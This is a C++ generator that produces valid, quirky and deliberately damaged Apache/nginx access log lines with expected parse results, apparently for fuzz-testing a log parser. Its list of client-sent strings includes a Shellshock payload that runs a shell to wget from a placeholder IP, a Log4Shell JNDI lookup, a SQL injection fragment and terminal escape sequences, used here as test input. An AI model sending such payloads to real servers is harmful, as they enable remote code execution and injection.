#include "parse/line_generator.h"

#include <algorithm>
#include <array>
#include <cstdio>
#include <ctime>

namespace accesslog {
namespace {

using namespace std::string_literals;

std::string OrMissing(const std::string& value) { return value == "-" ? "" : value; }

std::string Hex(char c) {
  std::array<char, 8> text{};
  std::snprintf(text.data(), text.size(), "\\x%02x",
                static_cast<unsigned>(static_cast<uint8_t>(c)));
  return text.data();
}

bool IsPlain(char c) { return c >= ' ' && c <= '~'; }

}  // namespace

std::string LineGenerator::Escape(std::string_view sent, Escaping escaping) {
  std::string text;
  for (const char c : sent) {
    const bool quoting = c == '"' || c == '\\';
    if (escaping == Escaping::kNginx && (quoting || !IsPlain(c))) {
      text += Hex(c);
    } else if (quoting) {
      text += {'\\', c};
    } else if (escaping == Escaping::kApache && !IsPlain(c)) {
      text += Hex(c);
    } else if (c == '\n') {
      text += "\\n";
    } else {
      text += c;
    }
  }
  return text;
}

std::string LineGenerator::RandomBytes(size_t count) {
  std::string bytes;
  for (size_t i = 0; i < count; ++i) bytes += static_cast<char>(random_());
  return bytes;
}

// What a client may send as a name, a path, a referer or a user agent.
std::string LineGenerator::SentText() {
  static const std::vector<std::string> kTexts = {
      ""s,
      "-"s,
      "Mozilla/5.0 (X11; Linux x86_64; rv:105.0) Gecko/20100101 Firefox/105.0"s,
      "https://example.com/a?b=c"s,
      "\""s,
      "\\"s,
      "\\\""s,
      "\\\\\"\\"s,
      "\" \""s,
      "\" 200 5"s,
      "\" 200 5 \"-\" \"-\""s,
      "a\" 404 7 \"x\" \"y"s,
      "] \"GET / HTTP/1.1\" 200 5 \"-\" \"-\""s,
      " [08/Sep/2023:12:26:56 -0400] "s,
      " [08/Sep/2023:12:26:56 -0400] \"GET / HTTP/1.1\" 200 5 "s,
      "() { :; }; /bin/sh -c \"wget http://192.0.2.1/x\""s,
      "${jndi:ldap://192.0.2.1/a}"s,
      "' OR 1=1 -- "s,
      "\x16\x03\x01\x02"s,
      "a\0b"s,
      "\x1b]0;owned\x07\x1b[2J"s,
      "Gr\xC3\xBC\xC3\x9F\x65"s,
      "\xFF\xFE\xC0\x80"s,
      "\xE2\x80\xAE\xC2\x9B"s,
      "line\nbreak\r\n"s,
      "\xEF\xBB\xBF"s,
  };
  if (OneIn(8)) return RandomBytes(Below(40));
  if (OneIn(200)) return std::string(Below(20000), 'A');
  if (OneIn(4)) return OneOf(kTexts) + OneOf(kTexts);
  return OneOf(kTexts);
}

void LineGenerator::AddHost(GeneratedLine& line) {
  struct Host {
    std::string text, truth;
  };
  static const std::vector<Host> kHosts = {{"example.com:443", "example.com"},
                                           {"www.example.com", "www.example.com"},
                                           {"[2001:db8::1]:80", "[2001:db8::1]"},
                                           {"[2001:db8::1]", "[2001:db8::1]"},
                                           {"198.51.100.1:8080", "198.51.100.1"},
                                           {"_:80", "_"},
                                           {"-", ""},
                                           {"", ""}};
  const Host host = OneOf(kHosts);
  line.text += host.text + " ";
  line.truth.host = host.truth;
}

void LineGenerator::AddClient(GeneratedLine& line) {
  struct Client {
    std::string text, address;
  };
  static const std::vector<Client> kClients = {
      {"192.0.2.1", "192.0.2.1"},
      {"203.0.113.255", "203.0.113.255"},
      {"2001:db8::1", "2001:db8::1"},
      {"2001:0DB8:0:0:0:0:0:1", "2001:db8::1"},
      {"::ffff:192.0.2.1", "192.0.2.1"},
      {"::1", "::1"},
      {"fe80::1%eth0", "fe80::1"},
      {"[2001:db8::2]", "2001:db8::2"},
      {"localhost", ""},
      {"host-7.isp_a.example.com", ""},
      {"1.2.0.192.in-addr.arpa.", ""},
  };
  if (OneIn(2)) {
    const std::string text = "198.51.100." + std::to_string(Below(256));
    line.text += text;
    line.truth.client = line.truth.address = text;
    return;
  }
  const Client client = OneOf(kClients);
  line.text += client.text;
  line.truth.client = client.text;
  line.truth.address = client.address;
}

void LineGenerator::AddUser(GeneratedLine& line, Escaping escaping) {
  static const std::vector<std::string> kUsers = {
      "-", "alice", "john doe",    "a [b] c",          "[", " [", "x [",
      " ", "- -",   "DOMAIN\\bob", "CN=Bob, O=Example"};
  const std::string user = Escape(OneIn(3) ? SentText() : OneOf(kUsers), escaping);
  line.text += " - " + user + " [";
  line.truth.user = OrMissing(user);
}

void LineGenerator::AddTime(GeneratedLine& line) {
  static const std::vector<std::string> kNoTimes = {
      "31/Feb/2023:12:26:56 -0400", "08/Sep/0000:00:00:00 +0000", "08/sep/2023:12:26:56 -0400",
      "08/Sep/2023:24:00:00 +0000", "08/Sep/2023:12:26:61 +0000", "aaaaaaaaaaaaaaaaaaaaaaaaaa",
      "00/Jan/1970:00:00:00 +0000", "08-Sep-2023 12:26:56 -0400"};
  static const std::vector<int> kZones = {0, 0, -14400, 3600, 19800, -12600, 50400, -43200};
  if (OneIn(10)) {
    line.text += OneOf(kNoTimes);
    return;
  }
  const std::time_t seconds = 86400 + static_cast<std::time_t>(Below(4000000000));
  const int zone = OneOf(kZones);
  const std::time_t local = seconds + zone;
  std::tm parts{};
  gmtime_r(&local, &parts);
  std::array<char, 40> date{};
  const size_t length = std::strftime(date.data(), date.size(), "%d/%b/%Y:%H:%M:%S ", &parts);
  std::array<char, 16> offset{};
  const int minutes = std::abs(zone) / 60;
  std::snprintf(offset.data(), offset.size(), "%c%02d%02d", zone < 0 ? '-' : '+', minutes / 60,
                minutes % 60);
  line.text += std::string(date.data(), length) + offset.data();
  line.truth.time = Time{std::chrono::seconds{seconds}};
}

void LineGenerator::AddRequest(GeneratedLine& line, Escaping escaping) {
  static const std::vector<std::string> kNoRequests = {"",
                                                       "-",
                                                       "\x16\x03\x01\x02",
                                                       "\x16\x03\x01 \x05 GET",
                                                       "\x80w\x01\x03",
                                                       "123 456 789",
                                                       "GET",
                                                       "lv|'|'|x|'|'|[endof]",
                                                       " GET / HTTP/1.1",
                                                       "{\"id\": 1}",
                                                       "/ HTTP/1.1"};
  static const std::vector<std::string> kMethods = {"GET",   "GET",      "POST",     "HEAD",
                                                    "PATCH", "PROPFIND", "M-SEARCH", "get"};
  static const std::vector<std::string> kPaths = {
      "/", "/index.html", "*", "http://example.com/a", "example.com:443", "", "/a b c", "/.env"};
  static const std::vector<std::string> kProtocols = {"HTTP/1.1", "HTTP/1.0", "HTTP/2.0",
                                                      "HTTP/3.0"};
  ParsedLine& truth = line.truth;
  if (OneIn(6)) {
    const std::string request = Escape(OneOf(kNoRequests), escaping);
    line.text += request;
    truth.request = OrMissing(request);
    truth.path = truth.request;
    return;
  }
  truth.method_text = OneOf(kMethods);
  if (truth.method_text.size() <= 5 && truth.method_text != "get") truth.method = truth.method_text;
  truth.path = OneOf(kPaths) + Escape(OneIn(3) ? SentText() : "", escaping);
  // A '?' would begin a query, and a last word such as HTTP/1.1 would be a protocol.
  std::replace(truth.path.begin(), truth.path.end(), '?', '!');
  std::replace(truth.path.begin(), truth.path.end(), 'H', 'h');
  truth.request = truth.method_text + " " + truth.path;
  if (OneIn(3)) {
    truth.query = Escape(SentText(), escaping);
    std::replace(truth.query.begin(), truth.query.end(), 'H', 'h');
    truth.request += "?" + truth.query;
  }
  if (!OneIn(6)) {
    truth.protocol = OneOf(kProtocols);
    truth.request += " " + truth.protocol;
  }
  line.text += truth.request;
}

void LineGenerator::AddStatus(GeneratedLine& line) {
  static const std::vector<std::string> kInvalid = {"000", "099", "600", "999", "-", "-1", "1e3"};
  if (OneIn(20)) {
    line.text += OneOf(kInvalid);
    return;
  }
  const size_t status = 100 + Below(500);
  line.text += std::to_string(status);
  line.truth.status = static_cast<uint16_t>(status);
}

void LineGenerator::AddBytes(GeneratedLine& line) {
  static const std::vector<std::string> kUnreadable = {
      "-", "-5", "18446744073709551616", "99999999999999999999999999", "5.5", "12abc"};
  if (OneIn(10)) {
    line.text += OneOf(kUnreadable);
    return;
  }
  const uint64_t bytes = OneIn(50) ? UINT64_MAX : Below(1000000);
  line.text += std::to_string(bytes);
  line.truth.bytes = bytes;
}

GeneratedLine LineGenerator::Line(std::string_view format) {
  const auto escaping =
      OneOf<Escaping>({Escaping::kApache, Escaping::kNginx, Escaping::kQuotesOnly});
  GeneratedLine line;
  if (format == "vhost_combined") AddHost(line);
  AddClient(line);
  AddUser(line, escaping);
  AddTime(line);
  line.text += "] \"";
  AddRequest(line, escaping);
  line.text += "\" ";
  AddStatus(line);
  line.text += " ";
  AddBytes(line);
  if (format == "common") return line;
  const std::string referer = Escape(SentText(), escaping);
  const std::string user_agent = Escape(SentText(), escaping);
  line.text += " \"" + referer + "\" \"" + user_agent + "\"";
  line.truth.referer = OrMissing(referer);
  line.truth.user_agent = OrMissing(user_agent);
  return line;
}

GeneratedLine LineGenerator::CarriedLine(std::string_view format) {
  GeneratedLine line = Line(format);
  if (OneIn(3)) {
    line.text +=
        OneOf<std::string>({" \"-\"", " 0.005", " ", " - -", " \"203.0.113.7, 10.0.0.1\""});
    line.truth.outcome = ParseOutcome::kExtra;
  }
  if (OneIn(3)) line.text = "\"" + line.text + "\"";
  if (OneIn(3)) line.text += OneIn(5) ? "\r\r" : "\r";
  if (OneIn(3)) line.text = "\xEF\xBB\xBF" + line.text;
  if (OneIn(3)) line.text = std::string(1 + Below(5000), '\0') + line.text;
  return line;
}

void LineGenerator::Wound(std::string& line) {
  const size_t at = Below(line.size() + 1);
  switch (Below(8)) {
    case 0:
      line.resize(at);
      break;
    case 1:
      line.erase(0, at);
      break;
    case 2:
      line.erase(at, Below(20));
      break;
    case 3:
      line.insert(at, RandomBytes(1 + Below(4)));
      break;
    case 4:
      line.insert(at, OneOf<std::string>({"\"", "\\", "\\\"", " ", "[", "]", "] \"", "\" 2", "-"}));
      break;
    case 5:
      line.insert(at, line.substr(Below(line.size() + 1), Below(80)));
      break;
    case 6:
      if (at < line.size()) line[at] = static_cast<char>(random_());
      break;
    default:
      line.insert(at, SentText());
      break;
  }
}

std::string LineGenerator::Damaged() {
  if (OneIn(50)) return RandomBytes(Below(200));
  if (OneIn(50)) return SentText();
  const auto format = OneOf<std::string>({"common", "combined", "vhost_combined"});
  std::string line = OneIn(4) ? CarriedLine(format).text : Line(format).text;
  for (size_t wounds = 1 + Below(3); wounds > 0; --wounds) Wound(line);
  return line;
}

}  // namespace accesslog
